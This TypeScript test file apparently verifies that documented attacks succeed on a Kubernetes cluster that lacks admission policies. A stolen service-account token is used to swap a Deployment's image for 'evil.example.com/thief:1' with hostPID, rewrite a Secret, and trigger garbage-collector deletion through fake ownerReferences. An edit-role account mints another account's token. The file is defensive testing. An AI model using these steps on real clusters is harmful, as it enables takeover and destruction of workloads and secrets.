/** The attacks that docs/security.md lists for a cluster without the admission policies: they succeed. */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { suite, type TestContext, test } from 'node:test';
import {
  type Api,
  connectWith,
  type KubernetesObject,
  path,
} from '../../../tools/control-plane/api.ts';
import { deployment, secret } from '../../../tools/control-plane/objects.ts';
import {
  hasKubectl,
  requestToken,
  testCluster,
  testNamespace,
} from '../../../tools/control-plane/testing.ts';
import { build, objectOf, overlay } from '../kustomize.ts';
import { refusedBy } from './account.ts';

const skip = hasKubectl() ? false : 'there is no kubectl';
const rbac = 'rbac.authorization.k8s.io';
const { api, cluster } = testCluster();

const clientOf = (token: string): Api =>
  connectWith({
    url: cluster.url,
    authority: readFileSync(cluster.caFile, 'utf8'),
    credentials: { token },
  });

/** The shipped account without the admission policies, limited to a namespace of the test. */
async function withoutPolicies(t: TestContext): Promise<{ namespace: string; name: string }> {
  const namespace = await testNamespace(t);
  const names = ['no-admission-policies', 'namespaced', 'ownership'];
  const components = names.map((name) => `components/${name}`);
  const objects = await build(overlay({ resources: ['cronjob'], components, namespace }));
  const isOfOthers = ({ kind }: KubernetesObject) => kind === 'CronJob' || /^Cluster/.test(kind);
  for (const object of objects) if (!isOfOthers(object)) await api.create(object);
  return { namespace, name: objectOf(objects, 'ServiceAccount').metadata.name };
}

suite('without the admission policies', { skip }, () => {
  test('a thief of the token runs code as any account, writes Secrets, and makes the garbage collector delete Secrets and workloads', async (t) => {
    const { namespace, name } = await withoutPolicies(t);
    const thief = clientOf(await requestToken(namespace, name));
    await api.create(deployment({ namespace, name: 'web' }));
    await api.create(secret({ namespace, name: 'login', data: { pin: '1234' } }));
    const web = path('Deployment', namespace, 'web');
    const login = path('Secret', namespace, 'login');

    const containers = [{ name: 'main', image: 'evil.example.com/thief:1' }];
    const pod = { containers, serviceAccountName: 'default', hostPID: true };
    await thief.patch(web, { spec: { template: { spec: pod } } });
    await thief.patch(login, { data: { pin: 'NTY3OA==' } });
    const ghost = { apiVersion: 'v1', kind: 'ConfigMap', name: 'ghost', uid: crypto.randomUUID() };
    await thief.patch(login, { metadata: { ownerReferences: [ghost] } });
    await thief.patch(web, { metadata: { ownerReferences: [ghost] } });
    for (const each of [login, web]) {
      await api.waitFor(each, (it) => it === undefined, { what: `the collection of ${each}` });
    }
  });
});

suite("an account with ClusterRole edit in wave-cron's namespace", { skip }, () => {
  test('gets the token of wave-cron, and an account with ClusterRole view does not', async (t) => {
    const { namespace, name } = await withoutPolicies(t);
    const holderOf = async (role: string) => {
      const metadata = { namespace, name: role };
      await api.create({ apiVersion: 'v1', kind: 'ServiceAccount', metadata });
      await api.create({
        ...{ apiVersion: `${rbac}/v1`, kind: 'RoleBinding', metadata },
        roleRef: { apiGroup: rbac, kind: 'ClusterRole', name: role },
        subjects: [{ kind: 'ServiceAccount', namespace, name: role }],
      });
      return clientOf(await requestToken(namespace, role));
    };
    const request = { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} };
    const tokenPath = `${path('ServiceAccount', namespace, name)}/token`;
    const editor = await holderOf('edit');
    const { status } = await editor.post<{ status: { token: string } }>(tokenPath, request);
    const review = await clientOf(status.token).post<{
      status: { userInfo: { username: string } };
    }>('/apis/authentication.k8s.io/v1/selfsubjectreviews', {
      apiVersion: 'authentication.k8s.io/v1',
      kind: 'SelfSubjectReview',
    });
    const user = `system:serviceaccount:${namespace}:${name}`;
    assert.equal(review.status.userInfo.username, user);
    const viewer = await holderOf('view');
    assert.match((await refusedBy(() => viewer.post(tokenPath, request))) ?? '', /403/);
  });
});
